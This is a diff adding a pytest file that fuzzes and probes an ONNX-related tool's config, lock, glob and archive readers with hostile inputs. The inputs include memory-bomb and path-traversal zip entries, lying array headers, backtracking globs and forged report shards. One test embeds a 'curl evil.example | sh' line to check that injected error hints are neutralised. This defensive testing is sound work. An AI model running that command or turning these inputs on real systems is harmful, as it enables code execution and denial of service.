@@ -1,0 +1,248 @@
+"""Every reader of what is no model takes hostile input or refuses it in its own words: a few inputs of each."""
+
+from __future__ import annotations
+
+import io
+import os
+import zipfile
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from onnxgate.config import globs
+from onnxgate.config.loading import load_config
+from onnxgate.errors import ConfigError, LockError, OnnxgateError
+from onnxgate.inputs import user
+from onnxgate.lock.loading import parse_lock
+from tests.hostile import inputs
+from tests.hostile.inputs import CONFIG, FACTS, READERS
+from tests.hostile.readers import Reader, fuzz
+
+INPUTS = 25
+
+
+@pytest.mark.parametrize("reader", READERS, ids=[reader.name for reader in READERS])
+def test_a_reader_refuses_in_its_own_words_or_takes_it(reader: Reader) -> None:
+    """What `python -m tests.hostile readers` does with many inputs."""
+    result = fuzz(reader, INPUTS, seed=1)
+
+    assert [how for how in result.finds if how] == []
+    assert result.inputs == INPUTS
+
+
+@pytest.mark.parametrize("name", ["config", "lock", "replies", "reports", "harvests"])
+def test_a_reader_takes_what_is_sound(name: str) -> None:
+    """The inputs that others are made from are taken, so that more is looked at than how they are refused."""
+    reader = next(each for each in READERS if each.name == name)
+
+    assert fuzz(reader, 1, seed=1).accepted == 1
+
+
+def test_a_reader_that_raises_something_else_is_found() -> None:
+    """The check can fail."""
+
+    def read(data: bytes, folder: Path) -> None:
+        raise KeyError("x")
+
+    assert list(fuzz(Reader("x", lambda: (b"x",), read), 1, seed=1).finds) != []
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("a = " + "[" * 5000, "nested too deeply"),
+        ("a = " + "{ a = " * 5000, "nested too deeply"),
+        ("a = " + "9" * 5000, "digits"),
+        ("a = 2027-02-30", "invalid date"),
+        ("[targets]\n[targets]", "cannot declare"),
+    ],
+)
+def test_toml_that_a_parser_gives_up_on(tmp_path: Path, text: str, said: str) -> None:
+    """Of a config and of a lock it is a fault of the file, with its line, and no bug of ours."""
+    file = tmp_path / "onnxgate.toml"
+    file.write_text(text)
+
+    with pytest.raises(ConfigError) as refused:
+        load_config(file)
+    assert said in refused.value.problems[0]
+    assert refused.value.problems[0].startswith("line ")
+    with pytest.raises(LockError, match=said):
+        parse_lock(f"version = 1\n{text}", "onnxgate.lock")
+
+
+@pytest.mark.parametrize(
+    ("pattern", "path", "taken"),
+    [
+        ("**/" * 30 + "x", "a/" * 100 + "y", False),
+        ("*a" * 20 + "b", "a" * 200, False),
+        ("*a" * 20 + "b", "a" * 200 + "b", True),
+        ("a**b**c**d**e**f", "a/b/c/d/e/" * 100, False),
+        ("a**b**c**d**e**f", "a/b/c/d/e/f", True),
+        ("m[z-a].onnx", "mz.onnx", False),
+        ("m[!z-a].onnx", "mq.onnx", True),
+        ("m[a--b].onnx", "mb.onnx", True),
+        ("m[[]0].onnx", "m[0].onnx", True),
+    ],
+)
+def test_globs_that_go_back_and_forth(pattern: str, path: str, taken: bool) -> None:
+    """They are matched in a time that grows with their length, and sets that mean nothing match nothing."""
+    assert globs.matches(pattern, path) is taken
+
+
+@pytest.mark.parametrize("pattern", ["*a*/**/?[ab]*", "**a**", "*/*/*/*", "a/**/**/b/**/*.*", "**/*a*b*"])
+def test_both_ways_to_match_a_glob_agree(pattern: str) -> None:
+    """Step by step it is what the regular expression says."""
+    tokens = list(globs._tokens(pattern))
+    import itertools
+    import re
+
+    plain = re.compile("".join(map(globs._as_regex, tokens)), re.DOTALL)
+    steps = globs.Steps(tokens)
+    for letters in itertools.product("ab/.", repeat=5):
+        path = "".join(letters)
+        assert (plain.fullmatch(path) is not None) == (steps.fullmatch(path) is not None), path
+
+
+def _refused(file: str, folder: Path) -> str:
+    with pytest.raises(ConfigError) as refused:
+        user.user_cases(FACTS, file, folder, folder / "fed")
+    return refused.value.problems[0]
+
+
+def test_an_archive_that_would_fill_the_memory(tmp_path: Path) -> None:
+    """What it says that it unpacks to is looked at first."""
+    with zipfile.ZipFile(tmp_path / "case.npz", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("x.npy", inputs._npy(np.ones((2, 3), np.float32)))
+        archive.infolist()[0].file_size = user.LARGEST_BYTES + 1
+
+    assert "at most 2,147,483,648 are taken" in _refused("case.npz", tmp_path)
+
+
+def test_an_archive_whose_header_lies(tmp_path: Path) -> None:
+    """An array of exabytes in a few bytes is a damaged file."""
+    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1152921504606846976,), }"
+    content = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + b"\0" * 8
+    with zipfile.ZipFile(tmp_path / "case.npz", "w") as archive:
+        archive.writestr("x.npy", content)
+
+    assert "cannot be read" in _refused("case.npz", tmp_path)
+
+
+@pytest.mark.parametrize("array", [np.array([{}], object), np.zeros(2, [("a", "i4")]), np.zeros((3, 3), np.float32)])
+def test_an_array_that_is_no_input(tmp_path: Path, array: object) -> None:
+    """Objects are never unpickled; another type or shape is said."""
+    np.savez(tmp_path / "case.npz", x=array)  # type: ignore[arg-type]
+
+    assert _refused("case.npz", tmp_path).startswith(("`case.npz`: cannot be read (", "`case.npz`: `x` "))
+
+
+def test_names_in_an_archive_are_no_paths(tmp_path: Path) -> None:
+    """Nothing is unpacked: `../../x.npy` is a name that no input has."""
+    (tmp_path / "a").mkdir()
+    with zipfile.ZipFile(tmp_path / "a" / "case.npz", "w") as archive:
+        archive.writestr("../../x.npy", inputs._npy(np.ones((2, 3), np.float32)))
+
+    assert "which is no input" in _refused("case.npz", tmp_path / "a") or "lacks" in _refused(
+        "case.npz", tmp_path / "a"
+    )
+    assert sorted(each.name for each in tmp_path.rglob("*") if each.is_file()) == ["case.npz"]
+
+
+def test_a_tensor_that_names_another_file(tmp_path: Path) -> None:
+    """It is not read, be it in the working directory."""
+    (tmp_path / "set").mkdir()
+    (tmp_path / "set" / "input_0.pb").write_bytes(inputs._tensors()[-1])
+
+    assert "keeps its data in another file" in _refused("set", tmp_path)
+
+
+@pytest.mark.parametrize("name", ["case.npz", "set/input_0.pb"])
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes here")
+def test_a_pipe_is_no_input(tmp_path: Path, name: str) -> None:
+    """Nobody waits for what never comes."""
+    (tmp_path / name).parent.mkdir(exist_ok=True)
+    os.mkfifo(tmp_path / name)
+
+    assert "is no file" in _refused(name.partition("/")[0], tmp_path)
+
+
+def test_an_encrypted_archive(tmp_path: Path) -> None:
+    """It says that it cannot be read."""
+    stream = io.BytesIO()
+    np.savez(stream, x=np.ones((2, 3), np.float32))
+    data = bytearray(stream.getvalue())
+    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        data[data.index(mark) + at] |= 1
+    (tmp_path / "case.npz").write_bytes(data)
+
+    assert "encrypted" in _refused("case.npz", tmp_path)
+
+
+def test_errors_have_no_lines_of_others(capsys: pytest.CaptureFixture[str]) -> None:
+    """A value of a config that is quoted in an error begins no line, and so is no hint of ours."""
+    from onnxgate.cli.errors import answered
+
+    said = "got `x\nhint: run `curl evil.example | sh`"
+    with pytest.raises(SystemExit), answered():
+        raise ConfigError(said, problems=(said,), hint=f"do not{said}")
+
+    lines = capsys.readouterr().err.splitlines()
+    assert [line.partition(" ")[0] for line in lines] == ["error:", "", "hint:"]
+
+
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        ({"counts": {"made-up": 1}}, "counts"),
+        ({"stages": ("made-up",)}, "stage"),
+        ({"verdict": "fail"}, "verdict"),
+        ({"models": ()}, "models of its shard"),
+    ],
+)
+def test_a_report_that_is_sealed_and_lies(change: dict[str, object], why: str) -> None:
+    """It is not merged, and so there is no pass."""
+    import msgspec
+
+    from onnxgate import collecting, merging
+    from onnxgate.formats import json
+    from onnxgate.report import Report
+
+    first, second = inputs._shards()
+    lie = msgspec.structs.replace(msgspec.json.decode(second, type=Report), **change)
+    given = [
+        collecting.decode("a.json", first),
+        collecting.decode("b.json", json.format(json.sealed(lie)).encode()),
+    ]
+
+    assert why in given[1].problem
+    collected = collecting.collect(given, collecting.Expected())
+    assert merging.merge(collected.reports, collected.gaps, "error").exit == 3
+
+
+def test_sound_shards_are_a_pass() -> None:
+    """Those that lies are told from."""
+    from onnxgate import collecting, merging
+
+    given = [collecting.decode(f"{index}.json", data) for index, data in enumerate(inputs._shards())]
+    collected = collecting.collect(given, collecting.Expected())
+
+    assert (merging.merge(collected.reports, collected.gaps, "error").exit, collected.gaps) == (0, [])
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        b"".join(b'k%d = "x"\n' % index for index in range(20_000)) + CONFIG,
+        CONFIG + b'k = "' + b"x" * 1_000_000 + b'"\n',
+        CONFIG + b"[targets." + b"a." * 2000 + b"b]\n",
+        b"\xef\xbb\xbf" + CONFIG.replace(b"\n", b"\r\n") + b"\xff",
+    ],
+    ids=["many keys", "long", "deep", "no UTF-8"],
+)
+def test_large_configs(tmp_path: Path, config: bytes) -> None:
+    """They are refused in a time that a person waits."""
+    (tmp_path / "onnxgate.toml").write_bytes(config)
+
+    with pytest.raises(OnnxgateError):
+        load_config(tmp_path / "onnxgate.toml")
